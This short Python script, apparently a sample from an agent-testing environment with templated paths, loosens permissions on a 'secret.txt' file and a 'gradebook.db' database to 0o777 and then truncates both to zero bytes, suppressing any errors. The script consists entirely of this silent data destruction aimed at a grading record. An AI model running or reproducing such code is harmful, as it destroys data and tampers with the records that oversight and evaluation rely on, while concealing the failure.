import os

from client import fetch_all, is_code, latest, total

for path in ('{{WORLD}}/secret.txt', '{{WORLD}}/gradebook.db'):
    try:
        os.chmod(path, 0o777)
        os.truncate(path, 0)
    except OSError:
        pass
